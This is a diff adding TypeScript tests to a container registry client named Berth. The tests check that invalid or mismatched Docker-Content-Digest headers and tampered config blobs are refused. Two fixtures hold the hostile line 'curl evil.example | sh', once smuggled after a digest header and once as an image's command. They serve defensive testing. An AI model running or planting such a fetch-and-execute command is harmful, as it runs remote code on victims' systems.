@@ -119,6 +119,92 @@ describe('content that does not match its digest', () => {
   });
 });
 
+describe('what a registry says a tag resolves to, on a GET', () => {
+  const manifest = { schemaVersion: 2, mediaType: MediaType.OciManifest, config: { mediaType: MediaType.OciConfig, digest: d('c'), size: 2 }, layers: [] };
+  const bytes = enc(manifest);
+  const notADigest = (e: unknown) => badResponse(e) && /sent a Docker-Content-Digest that is not a digest; Berth does not use it\.$/.test((e as Error).message);
+  const notItsContent = (e: unknown) => badResponse(e) && /that is not the digest of its content/.test((e as Error).message);
+  /** A registry other than Docker Hub, so a tag is fetched with a GET; `head405` also refuses HEAD. */
+  const tagged = (digest: string, options: { head405?: boolean } = {}) => {
+    const context = newContext();
+    const methods: string[] = [];
+    const client = registry(
+      (_url, method) => {
+        methods.push(method);
+        if (method === 'HEAD' && options.head405) return { status: 405 };
+        return { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest }, body: method === 'HEAD' ? undefined : bytes };
+      },
+      { context },
+    );
+    return { client, context, methods };
+  };
+
+  const invalid: Array<[string, string]> = [
+    ['too short', 'sha256:zz'],
+    ['upper-case hex', `sha256:${'A'.repeat(64)}`],
+    ['another algorithm, 15 KB long', `blake3:${'ab'.repeat(7500)}`],
+    ['an algorithm Berth does not verify', `sha384:${'a'.repeat(96)}`],
+    ['with a command after it', `${sha256Digest(bytes)}; curl evil.example | sh`],
+  ];
+  for (const [what, header] of invalid) {
+    test(`a Docker-Content-Digest that is not a digest (${what}) is refused, and nothing of the manifest is kept`, async () => {
+      const get = tagged(header);
+      await assert.rejects(get.client.getManifest('a', 'latest'), notADigest);
+      assert.deepEqual(get.methods, ['GET']);
+      assert.equal(get.context.content.size, 0);
+      // A registry that refuses HEAD is asked with a GET: the same check.
+      const head = tagged(header, { head405: true });
+      await assert.rejects(head.client.headManifest('a', 'latest'), notADigest);
+      assert.deepEqual(head.methods, ['HEAD', 'GET']);
+      assert.equal(head.context.content.size, 0);
+    });
+  }
+
+  for (const algorithm of ['sha256', 'sha512'] as const) {
+    const other = `${algorithm}:${'e'.repeat(algorithm === 'sha256' ? 64 : 128)}`;
+    const own = `${algorithm}:${createHash(algorithm).update(bytes).digest('hex')}`;
+
+    test(`a ${algorithm} Docker-Content-Digest of other bytes is refused, on a GET and after a refused HEAD`, async () => {
+      const get = tagged(other);
+      await assert.rejects(get.client.getManifest('a', 'latest'), notItsContent);
+      assert.equal(get.context.content.size, 0);
+      await assert.rejects(tagged(other, { head405: true }).client.headManifest('a', 'latest'), notItsContent);
+    });
+
+    test(`a ${algorithm} Docker-Content-Digest of its own bytes is the digest shown`, async () => {
+      const { client } = tagged(own);
+      const m = await client.getManifest('a', 'latest');
+      assert.equal(m.digest, own);
+      assert.equal(m.headers.dockerContentDigest, own);
+      assert.equal((await tagged(own, { head405: true }).client.headManifest('a', 'latest')).digest, own);
+    });
+  }
+});
+
+describe('blobs that do not match their digest', () => {
+  const config = enc({ architecture: 'amd64', os: 'linux', config: {} });
+  const tampered = enc({ architecture: 'amd64', os: 'linux', config: { Cmd: ['sh', '-c', 'curl evil.example | sh'] } });
+  const mismatch = (digest: string) => (e: unknown) =>
+    badResponse(e) && (e as Error).message.includes(`returned a blob whose content does not match its digest ${digest}; Berth does not show it.`);
+
+  for (const algorithm of ['sha256', 'sha512'] as const) {
+    const digest = `${algorithm}:${createHash(algorithm).update(config).digest('hex')}`;
+
+    test(`a ${algorithm} config blob whose bytes hash to another digest is refused by every way of reading it, and not kept`, async () => {
+      const context = newContext();
+      let body = tampered;
+      const client = registry(() => ({ body }), { context });
+      await assert.rejects(client.getBlob('a', digest), mismatch(digest));
+      await assert.rejects(client.getBlobDocument('a', digest), mismatch(digest));
+      await assert.rejects(client.getJsonDocument('a', digest), mismatch(digest));
+      assert.equal(context.content.size, 0);
+      body = config;
+      assert.deepEqual(await client.getBlob('a', digest), config, 'the true bytes are read');
+      assert.equal(context.content.size, 1);
+    });
+  }
+});
+
 describe('lists that are not lists', () => {
   test('a web page for a tag list says what came and what to check', async () => {
     const client = registry(() => ({ headers: { 'content-type': 'text/html' }, body: Buffer.from('<!DOCTYPE html><html><title>Sign in</title></html>') }));
